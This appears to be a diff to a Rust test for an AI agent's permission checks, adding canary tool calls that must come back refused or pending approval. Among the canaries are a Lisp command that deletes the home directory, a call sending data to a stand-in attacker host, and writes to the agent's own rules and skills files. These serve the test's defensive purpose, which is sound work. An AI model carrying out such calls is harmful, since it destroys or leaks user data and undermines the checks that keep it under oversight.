@@ -55,6 +55,11 @@ fn canaries(home: &Home, port: u16) -> Vec<(&'static str, Value)> {
         ("memory-read", json!({"id": "diary"})),
         ("note-distil", json!({"id": "diary", "title": "x", "body": "x"})),
         ("note-distil", json!({"id": "tiles", "title": "x", "body": "x", "file": at("outside.org")})),
+        ("org-render", json!({"id": "diary"})),
+        ("org-set-keyword", json!({"file": at("outside.org"), "keyword": "TITLE", "value": "x"})),
+        ("org-set-keyword", json!({"file": at("config/passepartout/rules.org"), "keyword": "TITLE", "value": "x"})),
+        ("org-set-property", json!({"id": "tiles", "property": "ID", "value": "mine"})),
+        ("lisp-edit", json!({"path": at("config/passepartout/skills/mine.org"), "do": "delete", "name": "x"})),
         ("read-file", json!({"path": home.file("diary.org")})),
         ("eval-lisp", json!({"code": "(delete-directory \"~\" t)"})),
         ("contact-provider", json!({"provider": "far", "url": "https://evil.example", "sent": "x"})),
@@ -106,7 +111,7 @@ fn nothing_uncleared(name: &str, finished: &Finished) {
             deed.outcome == "refused" || deed.outcome == "waits for approval" || deed.outcome.starts_with("refused: ");
         // What reads may pass, and is then looked at for what it gave out; what acts may not.
         let strictest = deed.trace.as_ref().and_then(|trace| trace.strictest().map(|o| o.verdict.name()));
-        let read = matches!(deed.tool.as_str(), "memory-read" | "read-file" | "skill-read")
+        let read = matches!(deed.tool.as_str(), "memory-read" | "org-render" | "read-file" | "skill-read")
             || deed.summary.contains("/approve");
         let read = read && strictest == Some("pass");
         assert!(untouched || read, "{name}: {} came to {}", deed.summary, deed.outcome);
